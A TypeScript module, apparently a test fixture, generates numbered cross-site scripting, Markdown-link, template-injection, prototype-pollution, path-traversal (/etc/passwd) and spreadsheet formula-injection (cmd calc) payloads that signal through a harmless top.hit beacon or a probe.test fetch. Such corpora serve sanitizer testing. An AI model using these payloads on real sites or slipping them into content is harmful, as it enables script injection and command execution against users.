/**
 * Texts that do something where a page shows them carelessly. Each tells of itself: by `top.hit(n)` where it runs, by a request
 * to probe.test where it only fetches.
 */
export type Payload = { readonly number: number; readonly text: string };

type Make = (run: string, probe: string) => string;

/** Elements that run a script as soon as they stand in a page. */
const elements: readonly Make[] = [
  (run) => `<script>${run}</script>`,
  (_, probe) => `<script src="${probe}.js"></script>`,
  (run) => `<SCRIPT>${run}</SCRIPT >`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><script>&#x2f;&#x2a;&#x2a;&#x2f;${run}</script></svg>`,
  (run) => `<img src=x onerror="${run}">`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img src='x'onerror='${run}'>`,
  (run) => `<img/src=x/onerror=${run}>`,
  (run) => `<IMG SRC=x OnErRoR="${run}">`,
  (run) => `<img src=x onerror="&#116;&#111;&#112;${run.slice(3)}">`,
  (run) => `<image src=x onerror="${run}">`,
  (_, probe) => `<img src="${probe}.png">`,
  (_, probe) => `<img srcset="${probe}.png 1x">`,
  (run) => `<svg onload="${run}">`,
  (run) => `<svg/onload=${run}>`,
  (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  (run) => `<svg><set onbegin="${run}" attributeName=x></svg>`,
  (_, probe) => `<svg><image href="${probe}.svg"></image></svg>`,
  (_, probe) => `<svg><use href="${probe}.svg#x"></use></svg>`,
  (run) => `<body onload="${run}">`,
  (run) => `<video><source onerror="${run}"></video>`,
  (run) => `<video src=x onerror="${run}"></video>`,
  (run) => `<audio src=x onerror="${run}"></audio>`,
  (_, probe) => `<video poster="${probe}.png"></video>`,
  (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (_, probe) => `<iframe src="${probe}"></iframe>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (_, probe) => `<object data="${probe}"></object>`,
  (_, probe) => `<embed src="${probe}">`,
  (run) => `<details open ontoggle="${run}"><summary>x</summary></details>`,
  (run) => `<input autofocus onfocus="${run}">`,
  (run) => `<select autofocus onfocus="${run}"></select>`,
  (run) => `<textarea autofocus onfocus="${run}"></textarea>`,
  (run) => `<a href=x autofocus tabindex=1 onfocus="${run}">x</a>`,
  (run) => `<marquee onstart="${run}">x</marquee>`,
  (run) => `<style onload="${run}"></style>`,
  (_, probe) => `<style>@import "${probe}.css";</style>`,
  (_, probe) => `<style>*{background:url(${probe}.png)}</style>`,
  (_, probe) => `<p style="background:url(${probe}.png)">x</p>`,
  (_, probe) => `<link rel=stylesheet href="${probe}.css">`,
  (_, probe) => `<link rel=preload as=image href="${probe}.png">`,
  (_, probe) => `<meta http-equiv=refresh content="0;url=${probe}">`,
  (run) => `<template><img src=x onerror="${run}"></template><img src=x onerror="${run}">`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  (run) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  (run) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  (run) => `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
];

/** Ways to break out of where a text may have been put. */
const frames: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `">${inner}`,
  (inner) => `'>${inner}`,
  (inner) => `</textarea></title></script></style>-->${inner}`,
];

/** What needs a click, a renderer of Markdown, a template or another program. */
const others: readonly Make[] = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    '&#106;avascript:',
    '\u0001javascript:',
    'data:text/html,<script>',
    'vbscript:',
    'file:///etc/passwd#',
    'blob:',
    'view-source:',
    'x-probe:',
    'ms-msdt:',
    'javascript\n:',
  ].flatMap((scheme): Make[] => [
    (run) => `[click](${scheme}${run})`,
    (run) => `[click](<${scheme}${run}> "title")`,
    (run) => `![picture](${scheme}${run})`,
    (run) => `<${scheme}${run}>`,
    (run) => `[click][r${scheme.length}]\n\n[r${scheme.length}]: ${scheme}${run}`,
    (run) => `<a href="${scheme}${run}">click</a>`,
  ]),
  (_, probe) => `![picture](${probe}.png)`,
  (_, probe) => `[![picture](${probe}.png)](${probe})`,
  (run) => `[click](https://example.org" onmouseover="${run})`,
  (run) => `[click](https://example.org 'x" autofocus onfocus="${run}')`,
  (run) => `![x" onerror="${run}](x.png)`,
  (run) => `\`\`\`"><img src=x onerror=${run}>\ncode\n\`\`\``,
  (run) => `| a | b |\n|---|---|\n| <img src=x onerror=${run}> | y |`,
  (run) => `note[^1]\n\n[^1]: <img src=x onerror=${run}>`,
  (run) => `- [x] <details open ontoggle=${run}>x</details>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text y=20>click</text></a></svg>`,
  (run) => `<form action="javascript:${run}"><input type=submit></form>`,
  (run) => `<button formaction="javascript:${run}">click</button>`,
  (run) => `<base href="javascript:${run}//">`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => '${' + run + '}',
  (run) => `#{${run}}<%= ${run} %>`,
  () => '$t(app.name)$t(error.lost) {{title}} {{- name}}',
  () => '__proto__',
  () => 'constructor',
  () => '%3Cscript%3Etop.hit(0)%3C/script%3E',
  () => '\u202e<\u0000script>\ufeff',
  () => '=HYPERLINK("http://probe.test/","x")',
  () => "@SUM(1+1)*cmd|' /C calc'!A0",
  () => '../../../../etc/passwd',
  () => '\u2028\u2029</script><!--',
];

/** All of them, numbered from 1. */
export const payloads: readonly Payload[] = [
  ...frames.flatMap((frame) =>
    elements.map(
      (make): Make =>
        (run, probe) =>
          frame(make(run, probe)),
    ),
  ),
  ...others,
].map((make, index) => {
  const number = index + 1;
  return { number, text: make(`top.hit(${number})`, `http://probe.test/${number}`) };
});
